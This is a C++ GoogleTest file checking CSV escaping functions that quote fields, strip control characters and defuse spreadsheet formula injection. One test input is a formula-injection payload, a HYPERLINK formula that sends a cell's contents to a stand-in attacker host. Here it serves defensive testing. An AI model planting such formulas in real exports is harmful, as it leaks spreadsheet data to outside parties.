#include "shared/base/csv.h"

#include <gtest/gtest.h>

namespace boxoffice {
namespace {

TEST(CsvText, QuotesCommasAndQuotationMarks) {
  EXPECT_EQ(csv_text(""), "");
  EXPECT_EQ(csv_text("Plain"), "Plain");
  EXPECT_EQ(csv_text("Plain, with comma"), "\"Plain, with comma\"");
  EXPECT_EQ(csv_text("\"Quoted\""), "\"\"\"Quoted\"\"\"");
}

TEST(CsvText, EscapesFormulas) {
  EXPECT_EQ(csv_text("=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&A1,\"\"click\"\")\"");
  EXPECT_EQ(csv_text("+1"), "'+1");
  EXPECT_EQ(csv_text("-30-"), "'-30-");
  EXPECT_EQ(csv_text("@midnight"), "'@midnight");
  EXPECT_EQ(csv_text("\tTab first"), "' Tab first");
  EXPECT_EQ(csv_text("\rReturn first"), "' Return first");
  EXPECT_EQ(csv_text("\nFeed first"), "' Feed first");
  EXPECT_EQ(csv_text("  =1+1"), "'  =1+1");
  EXPECT_EQ(csv_text("＝1+1"), "'＝1+1");
}

TEST(CsvText, KeepsOperatorsInsideText) {
  EXPECT_EQ(csv_text("1+1=2"), "1+1=2");
  EXPECT_EQ(csv_text("X-Men"), "X-Men");
  EXPECT_EQ(csv_text("'Allo"), "'Allo");
}

TEST(CsvText, ReplacesLineBreaksAndControlCharacters) {
  EXPECT_EQ(csv_text("Two\nLines\rOver"), "Two Lines Over");
  EXPECT_EQ(csv_text("\x1b[31mRed"), "�[31mRed");
}

TEST(GuardCsv, EscapesTextAndKeepsNumbers) {
  EXPECT_EQ(
      guard_csv("id,title,usd\n1,\"=1+1\",-1.5\r\n2,-30-,-1E-7\n3,\"-30\",\"@a, \"\"b\"\"\"\n"),
      "id,title,usd\n1,\"'=1+1\",-1.5\r\n2,'-30-,-1E-7\n3,\"-30\",\"'@a, \"\"b\"\"\"\n");
  EXPECT_EQ(guard_csv("=a"), "'=a");
  EXPECT_EQ(guard_csv(""), "");
  EXPECT_EQ(guard_csv("a,,\"\"\r\n\n,\r\n"), "a,,\"\"\r\n\n,\r\n");
}

TEST(GuardCsv, KeepsOperatorsInsideAQuotedField) {
  EXPECT_EQ(guard_csv("\"a,=b\n-c\",1\n"), "\"a,=b\n-c\",1\n");
  EXPECT_EQ(guard_csv("\"say \\\"=hi\\\"\",2\n"), "\"say \\\"=hi\\\"\",2\n");
}

TEST(GuardCsv, ReplacesControlCharacters) {
  EXPECT_EQ(guard_csv("\"\x1b[31mRed\",1\r\n\"\t=1\",2\n\r=1\n"),
            "\"�[31mRed\",1\r\n\"' =1\",2\n' =1\n");
}

TEST(GuardCsv, ReplacesAReturnWithinALine) {
  const std::string guarded = guard_csv("-5\r,-6\r\n");
  EXPECT_EQ(guarded, "-5 ,-6\r\n");
  EXPECT_EQ(guard_csv(guarded), guarded);
}

TEST(CsvLine, EndsInCarriageReturnAndLineFeed) {
  std::string csv;
  add_csv_line(csv, {"id", "usd"});
  add_csv_line(csv, {"7", "-1.5"});
  EXPECT_EQ(csv, "id,usd\r\n7,-1.5\r\n");
}

}  // namespace
}  // namespace boxoffice
